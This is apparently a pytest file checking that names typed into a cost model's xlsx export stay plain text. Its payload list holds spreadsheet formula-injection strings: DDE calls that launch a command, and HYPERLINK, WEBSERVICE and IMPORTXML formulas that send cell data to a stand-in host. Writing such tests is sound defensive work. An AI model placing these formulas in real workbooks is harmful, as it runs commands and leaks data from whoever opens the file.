"""What people type stays text in the workbook: no formula, no link, no character that breaks the file."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest

from costmodel import presets, text
from costmodel.report import write_xlsx
from costmodel.report.workbook import cells

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=')
CALLS = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://canary.invalid?x="&A1,"canary")',
    'WEBSERVICE("http://canary.invalid")',
    'IMPORTXML("http://canary.invalid","//a")',
    "SUM(1;1)*cmd|' /C calc'!A0",
)
OTHERS = (
    "{=SUM(A1:A2)}",
    '=DDE("cmd";"/C calc";"canary")',
    "http://canary.invalid",
    "https://canary.invalid/?a=1",
    "mailto:canary@canary.invalid",
    "internal:Inputs!A1",
    "external:c:\\canary.xlsx",
    "file:///canary",
    "ftp://canary.invalid",
    "00123",
    "1e5",
    "12%",
    "-5",
    "TRUE",
    "#REF!",
    "2026-11-22",
    "<script>canary()</script>",
    ']]><c t="f"/>',
    "&lt;&amp;&#61;1",
    "_x003D_1+1",
    "{plan}{0}{made!r}",
    "%s%n&A&P",
)
PAYLOADS = (*(start + call for start in STARTS for call in CALLS), *OTHERS)
NAMES = {
    "nothing but spaces": "   ",
    "control": "a\x00b\x01c\x1f\x7f\x9fd",
    "surrogate": "a\ud800b",
    "no character": "a\ufffe\uffffb",
    "hidden": "a\u202eb\u200bc\u2066d\ufeff",
    "sheet marks": "[a]:*?/\\'b'",
    "very long": "长" * 40_000,
    "emoji": "🚁👩‍🔬",
}


def with_name(name: str) -> bytes:
    file = io.BytesIO()
    write_xlsx(presets.load("solo").model_copy(update={"name": name}), file, "en")
    return file.getvalue()


def formulas(book) -> int:
    return sum(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("some", range(4))
def test_a_name_stays_text(some: int):
    """A tenth of the payloads, each in a whole workbook; the others go through the same function below."""
    for payload in PAYLOADS[some::40]:
        book = openpyxl.load_workbook(io.BytesIO(with_name(payload)))
        for sheet in book:
            cell = sheet["A1"]
            assert cell.data_type == "s"
            assert text.clean(payload) in cell.value
            assert cell.hyperlink is None
        assert book.properties.title == text.clean(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_alone_in_a_cell_stays_text(payload: str):
    import xlsxwriter

    file = io.BytesIO()
    book = xlsxwriter.Workbook(file)
    cells.write_text(book.add_worksheet(), 0, 0, payload)
    cells.write_value(book.get_worksheet_by_name("Sheet1"), 1, 0, payload)
    book.close()
    sheet = openpyxl.load_workbook(file)["Sheet1"]
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.data_type, cell.hyperlink) == ("s", None)
        # openpyxl reads the escape _x003D_ back; in the file it is escaped once more and shown as typed.
        assert cell.value == text.clean(payload, empty="")
    parts = zipfile.ZipFile(file)
    assert not any("hyperlink" in parts.read(name).decode() for name in parts.namelist())
    assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_hostile_name_leaves_the_file_whole(name: str):
    book = openpyxl.load_workbook(io.BytesIO(with_name(name)))
    assert book.sheetnames == ["Results", "Inputs", "Calculation"]
    title = book["Results"]["A1"].value
    assert len(title) < 300
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\ufeff\ud800-\udfff]", title)


def test_a_name_adds_no_formula():
    plain, hostile = (openpyxl.load_workbook(io.BytesIO(with_name(n))) for n in ("plan", '=HYPERLINK("x")'))
    assert formulas(plain) == formulas(hostile)


def test_a_number_that_is_none_leaves_its_cell_empty():
    import xlsxwriter

    file = io.BytesIO()
    book = xlsxwriter.Workbook(file)
    sheet = book.add_worksheet()
    for row, value in enumerate((float("nan"), float("inf"), 1.5)):
        cells.write_value(sheet, row, 0, value)
    book.close()
    read = openpyxl.load_workbook(file)["Sheet1"]
    assert [read.cell(row, 1).value for row in (1, 2, 3)] == [None, None, 1.5]
